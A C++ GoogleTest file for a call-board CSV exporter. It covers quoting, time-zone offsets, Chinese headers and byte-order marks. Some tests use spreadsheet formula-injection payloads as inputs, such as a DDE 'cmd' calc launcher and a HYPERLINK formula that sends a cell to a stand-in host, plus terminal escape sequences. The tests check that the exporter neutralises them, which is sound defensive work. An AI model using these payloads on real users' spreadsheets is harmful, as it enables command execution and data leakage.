#include "board/BoardCsv.h"
#include "settings/Config.h"
#include "support/LocalZone.h"
#include "support/TestSupport.h"

#include <cstdlib>
#include <cstring>
#include <ctime>
#include <gtest/gtest.h>

using namespace std::chrono_literals;

namespace {

std::tm Tm(int year, int month, int day, int hour, int minute, int second)
{
    std::tm t{};
    t.tm_year = year - 1900;
    t.tm_mon = month - 1;
    t.tm_mday = day;
    t.tm_hour = hour;
    t.tm_min = minute;
    t.tm_sec = second;
    return t;
}

// 2026-12-09 13:03:27 UTC.
const auto kWall = std::chrono::system_clock::time_point(std::chrono::seconds(1796821407));

std::vector<std::string> Rows(const std::string& csv)
{
    std::vector<std::string> rows;
    size_t start = 0;
    for (size_t end; (end = csv.find("\r\n", start)) != std::string::npos; start = end + 2)
        rows.push_back(csv.substr(start, end - start));
    EXPECT_EQ(start, csv.size()) << "the last row must end in CR LF";
    return rows;
}

} // namespace

TEST(BoardCsvTest, FieldsAreQuotedOnlyWhenTheyMustBe)
{
    const struct {
        std::string in;
        std::string out;
    } cases[] = {
        {"", ""},
        {"Idle", "Idle"},
        {"two words", "two words"},
        {" padded ", " padded "},
        {"a,b", "\"a,b\""},
        {"say \"hi\"", "\"say \"\"hi\"\"\""},
        {"\"", "\"\"\"\""},
        {"line\r\nbreak", "\"line\r\nbreak\""},
        {"cr\ronly", "\"cr\ronly\""},
        {"lf\nonly", "\"lf\nonly\""},
        {"tab\there;semi", "tab\there;semi"},
        {"\xE9\x80\x9A\xE8\xAF\x9D", "\xE9\x80\x9A\xE8\xAF\x9D"},
        // What a spreadsheet would run as a formula is shown as text: a leading '.
        {"=1+2", "'=1+2"},
        {"=HYPERLINK(\"http://x\"&A1)", "\"'=HYPERLINK(\"\"http://x\"\"&A1)\""},
        {"+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"},
        {"-2", "'-2"},
        {"@SUM(A1,A2)", "\"'@SUM(A1,A2)\""},
        {"\tx", "'\tx"},
        {"\rx", "\"'\rx\""},
        {"a=b", "a=b"},
        {"'=quoted", "'=quoted"},
        {" =1", " =1"},
        {"2026-12-09T14:03:27+01:00", "2026-12-09T14:03:27+01:00"},
    };
    for (const auto& c : cases)
        EXPECT_EQ(CsvField(c.in), c.out) << c.in;
}

TEST(BoardCsvTest, IsoTimeWithItsOffset)
{
    const struct {
        std::tm local;
        long offset;
        const char* text;
    } cases[] = {
        {Tm(2026, 12, 9, 14, 3, 27), 3600, "2026-12-09T14:03:27+01:00"},
        {Tm(2026, 12, 9, 13, 3, 27), 0, "2026-12-09T13:03:27+00:00"},
        {Tm(2026, 1, 1, 0, 0, 0), -5 * 3600, "2026-01-01T00:00:00-05:00"},
        {Tm(2026, 7, 4, 18, 33, 27), 5 * 3600 + 1800, "2026-07-04T18:33:27+05:30"},
        {Tm(2026, 7, 4, 9, 33, 27), -(3 * 3600 + 1800), "2026-07-04T09:33:27-03:30"},
        {Tm(2026, 7, 4, 12, 33, 27), -1800, "2026-07-04T12:33:27-00:30"},
        {Tm(2026, 7, 4, 2, 48, 27), 12 * 3600 + 2700, "2026-07-04T02:48:27+12:45"},
        {Tm(999, 3, 5, 7, 8, 9), 14 * 3600, "0999-03-05T07:08:09+14:00"},
    };
    for (const auto& c : cases)
        EXPECT_EQ(IsoTime(c.local, c.offset), c.text);
}

TEST(BoardCsvTest, IsoLocalTimeFollowsTheTimeZone){{LocalZone tz("UTC0");
EXPECT_EQ(IsoLocalTime(kWall), "2026-12-09T13:03:27+00:00");
EXPECT_EQ(IsoLocalTime(kWall + 999ms), "2026-12-09T13:03:27+00:00") << "cut to the second";
}
{
    LocalZone tz("XXX-1");
    EXPECT_EQ(IsoLocalTime(kWall), "2026-12-09T14:03:27+01:00");
}
{
    LocalZone tz("YYY5");
    // Across midnight and the year: the date is the local one.
    EXPECT_EQ(IsoLocalTime(std::chrono::system_clock::time_point(std::chrono::seconds(1798761600))),
              "2026-12-31T19:00:00-05:00");
}
#ifndef _WIN32
{
    // Daylight saving: the offset in force at that moment, not today's.
    LocalZone tz("CET-1CEST,M3.5.0,M10.5.0/3");
    EXPECT_EQ(IsoLocalTime(kWall), "2026-12-09T14:03:27+01:00");
    EXPECT_EQ(IsoLocalTime(kWall - std::chrono::hours(24 * 160)), "2026-07-02T15:03:27+02:00");
}
#endif
}

TEST(BoardCsvTest, HeadersThenOneRowPerLineWithTheTimeInState)
{
    LocalZone tz("XXX-1");
    FakeBoardClock clock;
    TagRunCfg cfg;
    cfg.IsEnglish = 1;
    cfg.Title1 = "Agent";
    cfg.Title2 = "Calls";
    cfg.Title3 = "Queue";
    TagMonitor board(3);
    const auto write = [&](int line, int column, const std::string& text) {
        BoardLock lock(board.Lock);
        board.SetCell(text.data(), text.size(), line, column, 0, 15);
    };
    write(0, 0, "0");
    write(0, 2, "Idle");
    write(0, 4, "Waiting, for call");
    write(1, 0, "1");
    write(1, 2, "\xCD\xA8\xBB\xB0"); // 通话
    write(1, 4, "Playing \"welcome\"");
    FakeBoardClock::Advance(90s);
    write(0, 2, "Idle");    // unchanged: still since the start
    write(1, 3, "12#");     // another column does not touch the status's time
    write(2, 2, "Ringing"); // line 2 has been empty until now
    FakeBoardClock::Advance(1500ms);

    BoardLock lock(board.Lock);
    const std::string csv = BoardCsv(board, cfg, {FakeBoardClock::Now(), kWall});
    const std::vector<std::string> rows = Rows(csv);
    ASSERT_EQ(rows.size(), 4u);
    EXPECT_EQ(rows[0], "Line,Script File,Status,Keys,Run Info,Agent,Calls,Queue,Status since,Seconds in status");
    EXPECT_EQ(rows[1], "0,,Idle,,\"Waiting, for call\",,,,2026-12-09T14:01:55+01:00,91");
    EXPECT_EQ(rows[2], "1,,\xE9\x80\x9A\xE8\xAF\x9D,12#,\"Playing \"\"welcome\"\"\",,,,2026-12-09T14:01:55+01:00,91");
    EXPECT_EQ(rows[3], ",,Ringing,,,,,,2026-12-09T14:03:25+01:00,1");

    // Another status column: the keys' time.
    const std::vector<std::string> byKeys = Rows(BoardCsv(board, cfg, {FakeBoardClock::Now(), kWall}, 3));
    EXPECT_EQ(byKeys[2].substr(byKeys[2].size() - 27), "2026-12-09T14:03:25+01:00,1") << byKeys[2];
    // No status column: both fields empty.
    const std::vector<std::string> none = Rows(BoardCsv(board, cfg, {FakeBoardClock::Now(), kWall}, 8));
    EXPECT_EQ(none[3], ",,Ringing,,,,,,,");
}

TEST(BoardCsvTest, ChineseHeadersAndBrokenBytesAreDecoded)
{
    LocalZone tz("UTC0");
    FakeBoardClock clock;
    TagRunCfg cfg; // Chinese, the default titles
    TagMonitor board(1);
    {
        BoardLock lock(board.Lock);
        board.SetCell("\xB0\xA1\xFF", 3, 0, 1, 0, 15); // 啊 then a stray byte
        board.SetCell("a\r\nb", 4, 0, 7, 0, 15);
    }
    BoardLock lock(board.Lock);
    const std::vector<std::string> rows = Rows(BoardCsv(board, cfg, {FakeBoardClock::Now(), kWall}));
    ASSERT_EQ(rows.size(), 2u) << "a server's line end never reaches the file";
    EXPECT_EQ(rows[0],
              "线路,脚本文件,状态,当前按键,运行信息,用户消息1,用户消息2,用户消息3,Status since,Seconds in status");
    EXPECT_EQ(rows[1], ",啊\xEF\xBF\xBD,,,,,,a\xEF\xBF\xBD\xEF\xBF\xBD"
                       "b,2026-12-09T13:03:27+00:00,0");
}

TEST(BoardCsvTest, ServerTextsCannotRunFormulasNorSteerWhatReadsTheFile)
{
    LocalZone tz("UTC0");
    FakeBoardClock clock;
    TagRunCfg cfg;
    cfg.IsEnglish = 1;
    TagMonitor board(1);
    const std::string texts[kColsPerLine] = {
        "=HYPERLINK(\"http://x/?\"&A1)",
        "+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd",
        "-1+1",
        "\x1B]0;title\x07\x1B[2J",
        "\tTAB",
        "\rCR",
        "DEL\x7F",
    };
    {
        BoardLock lock(board.Lock);
        for (int k = 0; k < kColsPerLine; ++k)
            board.SetCell(texts[k].data(), texts[k].size(), 0, k, 0, 15);
    }
    BoardLock lock(board.Lock);
    const std::string csv = BoardCsv(board, cfg, {FakeBoardClock::Now(), kWall});
    const std::vector<std::string> rows = Rows(csv);
    ASSERT_EQ(rows.size(), 2u);
    EXPECT_EQ(rows[1], "\"'=HYPERLINK(\"\"http://x/?\"\"&A1)\",'+cmd|' /C calc'!A0,'@SUM(1+1)*cmd,'-1+1,"
                       "\xEF\xBF\xBD]0;title\xEF\xBF\xBD\xEF\xBF\xBD[2J,\xEF\xBF\xBDTAB,\xEF\xBF\xBD"
                       "CR,"
                       "DEL\xEF\xBF\xBD,2026-12-09T13:03:27+00:00,0");
    for (char c : csv) {
        const auto b = static_cast<unsigned char>(c);
        EXPECT_TRUE(b >= 0x20 ? b != 0x7F : (c == '\r' || c == '\n')) << "control byte " << int(b);
    }
}

TEST(BoardCsvTest, AByteOrderMarkOnlyWhenAskedFor)
{
    TagRunCfg cfg;
    cfg.IsEnglish = 1;
    TagMonitor board(1);
    BoardLock lock(board.Lock);
    const std::string plain = BoardCsv(board, cfg, CsvClockNow(board));
    EXPECT_EQ(plain.rfind("Line,", 0), 0u);
    const std::string marked = BoardCsv(board, cfg, CsvClockNow(board), kDefaultStatusColumn, CsvStart::ByteOrderMark);
    EXPECT_EQ(marked.substr(0, 8), "\xEF\xBB\xBFLine,");
    EXPECT_EQ(marked.substr(3), plain) << "the mark is all that differs";
}

TEST(BoardCsvTest, ACellWrittenAfterTheMomentAskedForReadsAsJustNow)
{
    LocalZone tz("UTC0");
    FakeBoardClock clock;
    TagRunCfg cfg;
    TagMonitor board(1);
    const BoardTime before = FakeBoardClock::Now();
    FakeBoardClock::Advance(10s);
    {
        BoardLock lock(board.Lock);
        board.SetCell("Idle", 4, 0, 2, 0, 15);
    }
    BoardLock lock(board.Lock);
    const std::vector<std::string> rows = Rows(BoardCsv(board, cfg, {before, kWall}));
    EXPECT_EQ(rows[1], ",,Idle,,,,,,2026-12-09T13:03:27+00:00,0");
}

TEST(BoardCsvTest, TheLargestBoardHasARowPerLine)
{
    TagRunCfg cfg;
    cfg.IsEnglish = 1;
    TagMonitor board(kMaxLines);
    BoardLock lock(board.Lock);
    const std::vector<std::string> rows = Rows(BoardCsv(board, cfg, CsvClockNow(board)));
    EXPECT_EQ(rows.size(), size_t(kMaxLines) + 1);
}
